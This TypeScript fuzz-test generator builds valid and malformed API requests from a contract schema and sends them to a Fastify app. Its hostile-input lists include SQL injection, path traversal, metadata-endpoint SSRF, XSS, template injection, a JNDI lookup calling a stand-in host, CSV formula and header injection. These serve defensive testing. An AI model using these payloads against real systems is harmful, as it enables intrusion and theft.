// Requests made from the contract: valid ones of any operation, and every kind of wrong one. What an operation takes is
// read from its schema, so an operation of tomorrow is made up for too. Ids are placeholders until the call is made.
import fc, { type Arbitrary } from 'fast-check'
import type { FastifyInstance } from 'fastify'

export type Schema = {
  $ref?: string
  type?: string | string[]
  const?: unknown
  enum?: unknown[]
  format?: string
  pattern?: string
  examples?: unknown[]
  minLength?: number
  maxLength?: number
  minimum?: number
  maximum?: number
  minItems?: number
  maxItems?: number
  items?: Schema
  properties?: Record<string, Schema>
  required?: string[]
  additionalProperties?: boolean | Schema
  anyOf?: Schema[]
  oneOf?: Schema[]
}
type Parameter = { name: string; in: 'path' | 'query'; required?: boolean; schema: Schema }
export type Operation = {
  operationId: string
  method: string
  path: string
  security?: unknown
  parameters?: Parameter[]
  requestBody?: { content: Record<string, { schema: Schema }> }
}
export type Contract = {
  paths: Record<string, Record<string, Omit<Operation, 'method' | 'path'>>>
  components: { schemas: Record<string, Schema> }
}
export type MadeRequest = {
  method: string
  url: string
  headers: Record<string, string>
  payload?: string
}

export const operationsOf = ({ paths }: Contract): Operation[] =>
  Object.entries(paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, operation]) => ({ ...operation, method, path })),
  )

/** `wrong`: the share of values, in percent, that are not what the schema asks for. */
type Taste = {
  schemas: Contract['components']['schemas']
  wrong: number
  hasOptional: boolean | 'little'
}

const idPattern = /^\^([a-z]{3})_\[0-7\]/
/** The prefix of the ids that a field takes; undefined when it takes none. */
export const kindOf = (schema: Schema | undefined): string | undefined =>
  idPattern.exec(schema?.pattern ?? '')?.[1] ??
  schema?.anyOf?.map(kindOf).find((kind) => kind !== undefined)

const placeholder = (whose: 'own' | 'foreign' | 'unknown', kind: string) => `§${whose}:${kind}§`
/** Stands in every text that is made up; what takes its place tells whose text it is. */
const MARK = '§mark§'

export const hostileTexts = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  '\udfff\ud800',
  '\u202egnp.exe',
  '\ufeff',
  'e\u0301'.repeat(2000),
  'İ'.repeat(500),
  '👩‍👩‍👧‍👦'.repeat(300),
  "' or 1=1 --",
  '"; drop table messages; --',
  '%',
  '_%\\',
  '\\',
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{constructor.constructor("return 1")()}}',
  '{{ "a" | repeat: 99999999 }}',
  '{% for i in (1..99999999) %}x{% endfor %}',
  '{% include "/etc/passwd" %}',
  '{{ '.repeat(2000),
  '{% if a %}'.repeat(500),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker writes
  '${7*7}${jndi:ldap://x.example/a}',
  'a\r\nset-cookie: x=1',
  '\u001b[31mred\u001b[0m\nlevel=error',
  '=cmd|"/c calc"!A1',
  '__proto__',
  'constructor',
  'toString',
  'NaN',
  '1e999',
  'null',
  '2024-02-30T25:61:00Z',
  '-271821-04-20T00:00:00.000Z',
  `${'a'.repeat(9000)}!`,
  `${' '.repeat(9000)}x`,
  `${'@a.'.repeat(3000)}`,
  `${'0'.repeat(9000)}x`,
  '('.repeat(9000),
  '['.repeat(9000),
  '"'.repeat(9000),
  '*_`~'.repeat(2000),
  'x'.repeat(70_000),
]

const mistyped: unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  1e308,
  Number.MAX_SAFE_INTEGER + 1,
  -Number.MAX_SAFE_INTEGER,
  2 ** 31,
  '',
  [],
  {},
  [[[]]],
  [null],
  { $ne: 1 },
  { length: 1e9 },
  { toString: 1, fieldOf: 1 },
  Object.fromEntries([['__proto__', { isAdmin: true }]]),
]
const smuggled = ['__proto__', 'constructor', 'id', 'role', 'workspaceId', 'seq', 'createdAt', '']

/** A word that nobody else has, no longer than this. */
const word = (maxLength: number): Arbitrary<string> =>
  fc.uuid().map((id) => `${MARK}${id.slice(0, Math.max(8, maxLength - 10))}`)

function textOf(schema: Schema): Arbitrary<unknown> {
  const kind = kindOf(schema)
  if (kind !== undefined) return fc.constant(placeholder('own', kind))
  // What no other word of the schema describes.
  if (schema.examples) return fc.constantFrom(...schema.examples)
  if (schema.format === 'email') return fc.uuid().map((id) => `${MARK}${id}@t.example`)
  if (schema.format === 'date-time')
    return fc
      .date({ min: new Date('2020-01-01'), max: new Date('2040-01-01'), noInvalidDate: true })
      .map((date) => date.toISOString())
  if (schema.format === 'uri') return fc.webUrl()
  const { minLength = 0, maxLength = 2000 } = schema
  // Letters of any script are made by nobody here; a plain word is one of them.
  if (schema.pattern?.includes('\\p{')) return word(maxLength)
  if (schema.pattern) return fc.stringMatching(new RegExp(schema.pattern))
  if (maxLength < 20) return fc.string({ minLength: Math.max(1, minLength), maxLength })
  return word(maxLength).map((one) => one.padEnd(minLength + MARK.length, one))
}

/** What stands at the edge of what a schema takes, on either side. */
function edgesOf(schema: Schema): unknown[] {
  const edges: unknown[] = []
  const { minLength, maxLength, minimum, maximum, minItems, maxItems } = schema
  if (maxLength !== undefined) edges.push('x'.repeat(maxLength), 'x'.repeat(maxLength + 1))
  if (minLength) edges.push('x'.repeat(minLength), 'x'.repeat(minLength - 1))
  if (minimum !== undefined) edges.push(minimum, minimum - 1)
  if (maximum !== undefined) edges.push(maximum, maximum + 1)
  for (const size of [minItems, maxItems, maxItems === undefined ? undefined : maxItems + 1])
    if (size !== undefined && size <= 2000) edges.push(Array(size).fill('x'))
  const kind = kindOf(schema)
  if (kind !== undefined)
    edges.push(
      ...Array(6).fill(placeholder('foreign', kind)),
      placeholder('unknown', kind),
      placeholder('own', 'agt'),
    )
  return edges
}

const wrongOf = (schema: Schema): Arbitrary<unknown> => {
  const edges = edgesOf(schema)
  return fc.oneof(
    fc.constantFrom(...mistyped),
    { arbitrary: fc.constantFrom<unknown>(...hostileTexts), weight: 3 },
    { arbitrary: fc.constantFrom(...(edges.length > 0 ? edges : [null])), weight: 3 },
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.array(fc.constantFrom<unknown>(...hostileTexts.slice(0, 30)), { maxLength: 5 }),
  )
}

export function madeFor(schema: Schema, taste: Taste): Arbitrary<unknown> {
  const right = rightOf(schema, taste)
  if (taste.wrong === 0) return right
  return fc.oneof(
    { arbitrary: right, weight: 100 - taste.wrong },
    { arbitrary: wrongOf(schema), weight: taste.wrong },
  )
}

function rightOf(schema: Schema, taste: Taste): Arbitrary<unknown> {
  if (schema.$ref) return madeFor(taste.schemas[schema.$ref.split('/').at(-1)!]!, taste)
  if ('const' in schema) return fc.constant(schema.const)
  if (schema.enum) return fc.constantFrom(...schema.enum)
  const options = schema.anyOf ?? schema.oneOf
  // Without what is optional the first way of several is taken: `null` is the last.
  if (options && !taste.hasOptional) return madeFor(options[0]!, taste)
  if (options) return fc.oneof(...options.map((option) => madeFor(option, taste)))
  const type = [schema.type].flat()[0]
  if (type === 'string') return textOf(schema)
  if (type === 'integer' || type === 'number') {
    const { minimum = 0, maximum = 1000 } = schema
    return fc.integer({ min: minimum, max: Math.min(maximum, Math.max(minimum, 50)) })
  }
  if (type === 'boolean') return fc.boolean()
  if (type === 'null') return fc.constant(null)
  if (type === 'array') {
    const minLength = schema.minItems ?? (taste.hasOptional ? 0 : 1)
    return fc.array(madeFor(schema.items ?? {}, taste), {
      minLength,
      maxLength: Math.max(minLength, taste.hasOptional ? Math.min(schema.maxItems ?? 3, 3) : 1),
    })
  }
  if (type === 'object') return objectOf(schema, taste)
  return fc.jsonValue({ maxDepth: 2 })
}

/** An address is only checked behind its schema, which takes any text. */
const email = (schema: Schema, taste: Taste): Arbitrary<unknown> =>
  fc.oneof(
    { arbitrary: fc.uuid().map((id) => `${MARK}${id}@t.example`), weight: 100 - taste.wrong },
    { arbitrary: wrongOf(schema), weight: taste.wrong },
  )

/** What is required, and of the rest every fourth: the more there is of it, the less fits together. */
function someOf(
  wanted: readonly [string, Schema][],
  required: readonly string[],
  fieldOf: (one: [string, Schema]) => Arbitrary<unknown>,
): Arbitrary<unknown> {
  const nothing = { arbitrary: fc.constant(undefined), weight: 3 }
  const fields = wanted.map((one) => [
    one[0],
    required.includes(one[0]) ? fieldOf(one) : fc.oneof(nothing, fieldOf(one)),
  ])
  return fc
    .record(Object.fromEntries(fields))
    .map((value) => JSON.parse(JSON.stringify(value)) as unknown)
}

function objectOf(schema: Schema, taste: Taste): Arbitrary<unknown> {
  if (schema.properties === undefined && typeof schema.additionalProperties === 'object') {
    if (!taste.hasOptional) return fc.constant({})
    const keys = taste.wrong > 0 ? ['de', 'a.b', '__proto__', 'constructor', '', 'é'] : ['de']
    return fc.dictionary(fc.constantFrom(...keys), madeFor(schema.additionalProperties, taste))
  }
  const required = schema.required ?? []
  const wanted = Object.entries(schema.properties ?? {}).filter(
    ([name]) => taste.hasOptional || required.includes(name),
  )
  const fieldOf = ([name, one]: [string, Schema]) =>
    name === 'email' ? email(one, taste) : madeFor(one, taste)
  if (taste.hasOptional === 'little') return someOf(wanted, required, fieldOf)
  const fields = Object.fromEntries(wanted.map((one) => [one[0], fieldOf(one)]))
  const record: Arbitrary<Record<string, unknown>> = fc.record(fields, {
    requiredKeys: required.filter((name) => fields[name] !== undefined),
  })
  if (taste.wrong === 0) return record
  const extra = fc.option(fc.tuple(fc.constantFrom(...smuggled), fc.constantFrom(...mistyped)), {
    freq: Math.ceil(300 / taste.wrong),
  })
  const missing = fc.option(fc.constantFrom(...Object.keys(fields), ''), {
    freq: Math.ceil(300 / taste.wrong),
  })
  return fc
    .tuple(record, extra, missing)
    .map(([value, more, less]) =>
      Object.fromEntries([
        ...Object.entries(value).filter(([name]) => name !== less),
        ...(more === null ? [] : [more]),
      ]),
    )
}

const brokenBodies = [
  '',
  '{',
  'null',
  '[]',
  '"text"',
  '\ufeff{}',
  '{"a":1,"a":2}',
  '{"__proto__":{"a":1}}',
  '{"constructor":{"prototype":{"a":1}}}',
  '['.repeat(60_000),
  `${'{"a":'.repeat(30_000)}1${'}'.repeat(30_000)}`,
  `{"a":"${'x'.repeat(300_000)}"}`,
  `{"a":1${'0'.repeat(60_000)}}`,
  `[${'{},'.repeat(60_000)}{}]`,
]
const brokenTypes = [
  'text/plain',
  'text/html',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=x',
  'application/json; charset=utf-7',
  'application/json;',
  'text/csv',
  '',
]
const brokenPaths = [
  '%',
  '%00',
  '%E0%A4%A',
  '%ff',
  '..%2f..%2f',
  '%2e%2e',
  '*',
  ':id',
  'x'.repeat(3000),
]
const oddHeaders = fc.record(
  {
    'idempotency-key': fc.constantFrom('', 'k', 'x'.repeat(300), 'é', '%'),
    'last-event-id': fc.constantFrom('', '0', '-1', 'x'.repeat(3000), '1.1.1'),
    origin: fc.constantFrom('null', 'https://evil.example', 'x'.repeat(3000)),
    'accept-encoding': fc.constantFrom('gzip', '*;q=0', 'x'.repeat(1000)),
    'x-forwarded-for': fc.constantFrom('127.0.0.1', 'x'.repeat(3000)),
    'content-encoding': fc.constantFrom('gzip', 'br'),
  },
  { requiredKeys: [] },
)

const csv = (cells: string) => `User ID,Timestamp (UTC),Message Body\n${cells}`
const rightCsv = fc.uuid().map((id) => csv(`${id},2024-01-01 10:00:00,${MARK}Hello\n`))
const wrongCsv = fc.oneof(
  fc.constantFrom(...hostileTexts).map((text) => csv(`u,2024-01-01 10:00:00,"${text}`)),
  fc.string({ unit: 'binary', maxLength: 300 }),
  fc.constant(`${'a,'.repeat(30_000)}\n`.repeat(3)),
  fc.constantFrom('a', '(', '[', ' ', '"', '\r', '=').map((one) => one.repeat(120_000)),
  fc
    .constantFrom('(', ' ', '_')
    .map((one) => `User ID,${one.repeat(60_000)}x,Message Body\nu,2024,m\n`),
)

/** A request of this operation. With `wrong: 0` it is valid as far as its schema says. */
export function requestOf(
  operation: Operation,
  contract: Contract,
  { wrong, hasOptional }: Omit<Taste, 'schemas'>,
): Arbitrary<MadeRequest> {
  const taste = { schemas: contract.components.schemas, wrong, hasOptional }
  return fc
    .tuple(
      pathOf(operation, taste),
      queryOf(operation, taste),
      bodyOf(operation, taste),
      wrong === 0
        ? fc.constant({})
        : fc.oneof({ arbitrary: fc.constant({}), weight: 9 }, oddHeaders),
    )
    .map(([path, query, body, headers]) => ({
      method: operation.method.toUpperCase(),
      url: path + (query === '' ? '' : `?${query}`),
      ...body,
      headers: { ...body.headers, ...(headers as Record<string, string>) },
    }))
}

function pathOf({ path, parameters = [] }: Operation, taste: Taste): Arbitrary<string> {
  const names = [...path.matchAll(/\{(\w+)\}/g)].map((match) => match[1]!)
  const values = names.map((name) => {
    const { schema } = parameters.find((one) => one.in === 'path' && one.name === name)!
    const value = madeFor(schema, taste).map((one) => encoded(one))
    if (taste.wrong === 0) return value
    return fc.oneof({ arbitrary: value, weight: 20 }, fc.constantFrom(...brokenPaths))
  })
  return fc.tuple(...values).map((found) => {
    let next = 0
    return path.replace(/\{\w+\}/g, () => found[next++]!)
  })
}

const encoded = (value: unknown): string =>
  encodeURIComponent((typeof value === 'string' ? value : JSON.stringify(value)).toWellFormed())

function queryOf({ parameters = [] }: Operation, taste: Taste): Arbitrary<string> {
  const query = parameters.filter(
    (one) =>
      one.in === 'query' &&
      (taste.hasOptional || one.required) &&
      // No schema says what a cursor is.
      (taste.wrong > 0 || one.name !== 'cursor'),
  )
  const fields = Object.fromEntries(query.map((one) => [one.name, madeFor(one.schema, taste)]))
  const requiredKeys = query.filter((one) => one.required).map((one) => one.name)
  return fc.record(fields, { requiredKeys }).map((values) =>
    Object.entries(values)
      .flatMap(([name, value]) =>
        (Array.isArray(value) ? value : [value])
          .filter((one) => one !== undefined)
          .map((one) => `${name}=${encoded(one)}`),
      )
      .join('&')
      .slice(0, 12_000),
  )
}

type Body = { headers: Record<string, string>; payload?: string }

function bodyOf({ requestBody }: Operation, taste: Taste): Arbitrary<Body> {
  if (requestBody === undefined) return fc.constant({ headers: {} })
  const json = requestBody.content['application/json']
  const right: Arbitrary<Body> = json
    ? madeFor(json.schema, taste).map((value) => ({
        headers: { 'content-type': 'application/json' },
        payload: JSON.stringify(value),
      }))
    : (taste.wrong === 0 ? rightCsv : fc.oneof(rightCsv, wrongCsv)).map((payload) => ({
        headers: { 'content-type': Object.keys(requestBody.content)[0]! },
        payload,
      }))
  if (taste.wrong === 0) return right
  const broken = fc
    .tuple(fc.constantFrom(...brokenBodies), fc.constantFrom('application/json', ...brokenTypes))
    .map(([payload, type]) => ({ headers: { 'content-type': type }, payload }))
  return fc.oneof(
    { arbitrary: right, weight: 100 - Math.ceil(taste.wrong / 2) },
    { arbitrary: broken, weight: Math.ceil(taste.wrong / 2) },
  )
}

export type Ids = Record<string, string[]>

const nobodys = '01k9r1xkq4e8r8c2n3s6w5v7ab'

/** Whose ids take the place of the placeholders, and what the place of each mark; `turn` counts back from the newest. */
export type Filling = { own: Ids; foreign: Ids; mark: string; turn?: number }

export const filled = (text: string, { own, foreign, mark, turn = 0 }: Filling): string =>
  text
    .replace(
      /(?:§|%C2%A7)(own|foreign|unknown)(?::|%3A)([a-z]{3})(?:§|%C2%A7)/g,
      (_, whose: string, kind: string) => {
        const found = (whose === 'own' ? own : whose === 'foreign' ? foreign : {})[kind] ?? []
        return found.at(-1 - (turn % Math.max(1, found.length))) ?? `${kind}_${nobodys}`
      },
    )
    .replace(/(?:§|%C2%A7)mark(?:§|%C2%A7)/g, mark)

/** What a body names is another one than what the path names, where there is another one. */
export const filledRequest = (made: MadeRequest, filling: Filling): MadeRequest => ({
  ...made,
  url: filled(made.url, filling),
  ...(made.payload === undefined
    ? {}
    : { payload: filled(made.payload, { ...filling, turn: (filling.turn ?? 0) + 1 }) }),
})

/** To make these takes longer than to take a sample of them. */
const valid = new WeakMap<Operation, Arbitrary<MadeRequest>[]>()

/** Valid requests of this operation, the smallest first: one that needs more than its schema says is met later. */
export function* validRequests(
  operation: Operation,
  contract: Contract,
  seed: number,
): Generator<MadeRequest> {
  const sizes = [false, 'little', true] as const
  let arbitraries = valid.get(operation)
  if (arbitraries === undefined) {
    arbitraries = sizes.map((hasOptional) =>
      requestOf(operation, contract, { wrong: 0, hasOptional }),
    )
    valid.set(operation, arbitraries)
  }
  for (const [size, arbitrary] of arbitraries.entries())
    yield* fc.sample(arbitrary, { seed, numRuns: size === 0 ? 1 : 20 })
}

/** Signing out ends whoever does it. */
export const endsSession = ({ operationId }: Operation): boolean =>
  operationId === 'auth.logout' || operationId === 'customerSessions.delete'

/** Makes the call; gives up after a while: the event stream does not end by itself, and a provider may never answer. */
export const send = (
  app: FastifyInstance,
  made: MadeRequest,
  from: { token: string | null; remoteAddress?: string },
) =>
  app.inject({
    ...made,
    method: made.method as 'GET',
    headers: {
      ...made.headers,
      ...(from.token === null ? {} : { authorization: `Bearer ${from.token}` }),
    },
    ...(from.remoteAddress ? { remoteAddress: from.remoteAddress } : {}),
    signal: AbortSignal.timeout(made.url.startsWith('/v1/events') ? 4000 : 30_000),
  })
